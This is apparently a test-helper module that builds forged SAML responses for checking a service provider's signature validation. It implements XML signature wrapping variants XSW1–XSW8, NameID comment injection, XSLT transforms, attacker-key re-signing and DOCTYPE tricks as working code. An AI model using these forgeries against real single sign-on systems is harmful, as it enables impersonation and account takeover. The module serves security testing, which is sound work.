"""Crafted SAML responses, each derived from a real response signed by the pysaml2 IdP.

Every function takes the base64 ``SAMLResponse`` form field and returns a tampered one. They
mirror the published attack classes: the XML signature wrapping variants XSW1-XSW8
(Somorovsky et al., "On Breaking SAML", 2012), comment injection in the NameID (Duo, 2018),
DOCTYPE/entity tricks, XSLT transforms and swapped certificates.
"""

from __future__ import annotations

import base64
import copy

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from lxml import etree

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"


def load(saml_response: str) -> etree._Element:
    return etree.fromstring(base64.b64decode(saml_response))


def dump(root: etree._Element) -> str:
    return base64.b64encode(etree.tostring(root)).decode()


def dump_bytes(xml: bytes) -> str:
    return base64.b64encode(xml).decode()


def _assertion(root: etree._Element) -> etree._Element:
    found = root.find("saml:Assertion", NS)
    assert found is not None
    return found


def _name_id(element: etree._Element) -> etree._Element:
    found = element.find(".//saml:NameID", NS)
    assert found is not None
    return found


def _evil_copy(assertion: etree._Element, *, name_id: str, keep_signature: bool,
               new_id: str | None = "_evil") -> etree._Element:
    evil = copy.deepcopy(assertion)
    if not keep_signature:
        for signature in evil.findall("ds:Signature", NS):
            evil.remove(signature)
    if new_id:
        evil.set("ID", new_id)
    _name_id(evil).text = name_id
    return evil


def tamper_name_id(saml_response: str, name_id: str) -> str:
    """Change the signed NameID in place (the digest no longer matches)."""
    root = load(saml_response)
    _name_id(_assertion(root)).text = name_id
    return dump(root)


def xsw_sibling_before(saml_response: str, name_id: str) -> str:
    """XSW3: an unsigned evil assertion inserted before the signed one."""
    root = load(saml_response)
    original = _assertion(root)
    original.addprevious(_evil_copy(original, name_id=name_id, keep_signature=False))
    return dump(root)


def xsw_sibling_after(saml_response: str, name_id: str) -> str:
    """XSW3 mirrored: the evil assertion after the signed one."""
    root = load(saml_response)
    original = _assertion(root)
    original.addnext(_evil_copy(original, name_id=name_id, keep_signature=False))
    return dump(root)


def xsw_wrap_original(saml_response: str, name_id: str) -> str:
    """XSW4: the evil assertion replaces the signed one and carries it inside itself."""
    root = load(saml_response)
    original = _assertion(root)
    evil = _evil_copy(original, name_id=name_id, keep_signature=False)
    original.addprevious(evil)
    root.remove(original)
    evil.append(original)
    return dump(root)


def xsw_original_in_signature_object(saml_response: str, name_id: str) -> str:
    """XSW8-style: evil assertion (same ID, signature kept) in place; the original moved into
    a ds:Object of that signature, where a naive ID lookup still finds it."""
    root = load(saml_response)
    original = _assertion(root)
    evil = _evil_copy(original, name_id=name_id, keep_signature=True, new_id=None)
    original.addprevious(evil)
    root.remove(original)
    signature = evil.find("ds:Signature", NS)
    assert signature is not None
    obj = etree.SubElement(signature, f"{{{NS['ds']}}}Object")
    obj.append(original)
    return dump(root)


def xsw_original_in_extensions(saml_response: str, name_id: str) -> str:
    """XSW7-style: the original signed assertion moved under samlp:Extensions; the evil
    assertion (signature removed) takes its place."""
    root = load(saml_response)
    original = _assertion(root)
    evil = _evil_copy(original, name_id=name_id, keep_signature=False, new_id=None)
    original.addprevious(evil)
    root.remove(original)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    issuer = root.find("saml:Issuer", NS)
    assert issuer is not None
    issuer.addnext(extensions)
    extensions.append(original)
    return dump(root)


def xsw_duplicate_id(saml_response: str, name_id: str) -> str:
    """The signed assertion replaced by an evil one with the same ID and the original
    signature; no second copy anywhere (digest must fail)."""
    root = load(saml_response)
    original = _assertion(root)
    evil = _evil_copy(original, name_id=name_id, keep_signature=True, new_id=None)
    original.addprevious(evil)
    root.remove(original)
    return dump(root)


def xsw_response_wrapping(saml_response: str, name_id: str) -> str:
    """XSW1/XSW2 for a response signed at the Response level: a new evil Response (other ID,
    evil unsigned assertion) carries the signature; the original signed Response is moved
    inside that signature's ds:Object."""
    original = load(saml_response)
    signature = original.find("ds:Signature", NS)
    assert signature is not None
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil_response")
    for old in evil.findall("ds:Signature", NS):
        evil.remove(old)
    evil_assertion = evil.find("saml:Assertion", NS)
    assert evil_assertion is not None
    _name_id(evil_assertion).text = name_id
    moved_signature = copy.deepcopy(signature)
    evil.insert(1, moved_signature)
    obj = etree.SubElement(moved_signature, f"{{{NS['ds']}}}Object")
    original.remove(signature)
    obj.append(original)
    return dump(evil)


def move_response_signature_into_assertion(saml_response: str) -> str:
    """A Response-level signature moved into the (unsigned) assertion, so the assertion
    seems to carry a signature that covers something else."""
    root = load(saml_response)
    signature = root.find("ds:Signature", NS)
    assert signature is not None
    root.remove(signature)
    assertion = _assertion(root)
    assertion.insert(1, signature)
    return dump(root)


def forge_unsigned_assertion_in_signed_response(saml_response: str, name_id: str) -> str:
    """For a response signed at the Response level: the covered assertion replaced by an
    unsigned evil one (the response's digest must fail)."""
    root = load(saml_response)
    _name_id(_assertion(root)).text = name_id
    return dump(root)


def inject_comment_in_name_id(saml_response: str, keep: str) -> str:
    """Duo's 2018 comment injection: ``<NameID>keep<!---->rest</NameID>``. Canonicalization
    without comments leaves the digest unchanged, and a parser reading only the first text
    node sees ``keep``."""
    root = load(saml_response)
    name_id = _name_id(_assertion(root))
    full = name_id.text or ""
    assert full.startswith(keep)
    name_id.text = keep
    comment = etree.Comment("")
    comment.tail = full[len(keep):]
    name_id.append(comment)
    return dump(root)


def resign_signed_info(root: etree._Element, signature: etree._Element,
                       key: rsa.RSAPrivateKey) -> None:
    """Sign ``signature``'s SignedInfo again with ``key`` (RSA-SHA256, exclusive c14n): an
    attacker who changed SignedInfo, or a test that holds the IdP key to reach a later check."""
    signed_info = signature.find("ds:SignedInfo", NS)
    assert signed_info is not None
    data = etree.tostring(signed_info, method="c14n", exclusive=True, with_comments=False)
    value = key.sign(data, padding.PKCS1v15(), hashes.SHA256())
    signature_value = signature.find("ds:SignatureValue", NS)
    assert signature_value is not None
    signature_value.text = base64.b64encode(value).decode()


def add_xslt_transform(saml_response: str, idp_key: rsa.RSAPrivateKey) -> str:
    """An XSLT transform added to the assertion's Reference, SignedInfo re-signed with the
    IdP's own key so that only the transform itself can be the reason to refuse."""
    root = load(saml_response)
    signature = _assertion(root).find("ds:Signature", NS)
    assert signature is not None
    transforms = signature.find("ds:SignedInfo/ds:Reference/ds:Transforms", NS)
    assert transforms is not None
    transform = etree.SubElement(transforms, f"{{{NS['ds']}}}Transform",
                                 {"Algorithm": XSLT_TRANSFORM})
    stylesheet = etree.SubElement(
        transform, "{http://www.w3.org/1999/XSL/Transform}stylesheet", {"version": "1.0"})
    etree.SubElement(stylesheet, "{http://www.w3.org/1999/XSL/Transform}template",
                     {"match": "/"})
    resign_signed_info(root, signature, idp_key)
    return dump(root)


def resign_with_other_key(saml_response: str, key: rsa.RSAPrivateKey,
                          certificate: x509.Certificate, name_id: str) -> str:
    """An attacker's own key signs an evil assertion and embeds the attacker's certificate in
    KeyInfo (the digest is recomputed, so the signature itself is valid)."""
    root = load(saml_response)
    assertion = _assertion(root)
    _name_id(assertion).text = name_id
    signature = assertion.find("ds:Signature", NS)
    assert signature is not None
    parent_index = list(assertion).index(signature)
    assertion.remove(signature)
    digest = hashes.Hash(hashes.SHA256())
    digest.update(etree.tostring(assertion, method="c14n", exclusive=True,
                                 with_comments=False))
    assertion.insert(parent_index, signature)
    digest_value = signature.find("ds:SignedInfo/ds:Reference/ds:DigestValue", NS)
    assert digest_value is not None
    digest_value.text = base64.b64encode(digest.finalize()).decode()
    cert = signature.find("ds:KeyInfo/ds:X509Data/ds:X509Certificate", NS)
    assert cert is not None
    cert.text = base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()
    resign_signed_info(root, signature, key)
    return dump(root)


def with_doctype(saml_response: str, doctype: str, name_id_text: str | None = None) -> str:
    """The response's XML preceded by ``doctype``; optionally the NameID replaced by raw
    markup (an entity reference)."""
    xml = etree.tostring(load(saml_response)).decode()
    if name_id_text is not None:
        start = xml.index(">", xml.index("NameID ")) + 1
        end = xml.index("</", start)
        xml = xml[:start] + name_id_text + xml[end:]
    return dump_bytes((doctype + "\n" + xml).encode())


def encrypted_assertion(saml_response: str) -> str:
    """The assertion replaced by an (opaque) EncryptedAssertion."""
    root = load(saml_response)
    assertion = _assertion(root)
    encrypted = etree.Element(f"{{{NS['saml']}}}EncryptedAssertion")
    etree.SubElement(encrypted, "{http://www.w3.org/2001/04/xmlenc#}EncryptedData")
    assertion.addprevious(encrypted)
    root.remove(assertion)
    return dump(root)
